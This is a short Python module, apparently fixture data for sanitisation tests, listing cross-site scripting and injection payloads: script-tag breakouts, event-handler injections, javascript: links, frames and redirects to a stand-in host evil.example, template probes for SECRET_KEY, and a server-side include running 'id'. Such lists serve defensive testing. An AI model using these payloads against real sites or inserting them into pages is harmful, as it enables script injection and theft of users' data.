"""Words that would be code if a page believed them."""

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script>",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover='alert(1)",
    "` onmouseover=alert(1)",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a onclick=alert(1)>x</a>",
    "<math><mtext onclick=alert(1)>",
)
LINKS = (
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<form action=//evil.example><button>x",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=background:url(//evil.example)>",
)
TEMPLATES = (
    "{{ settings.SECRET_KEY }}",
    "{% load x %}",
    "{% csrf_token %}",
    "${7*7}",
    "#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028alert(1)",
    "<!--#exec cmd='id'-->",
    "<?php echo 1 ?>",
)
PAYLOADS = (*SCRIPTS, *HANDLERS, *LINKS, *TEMPLATES)
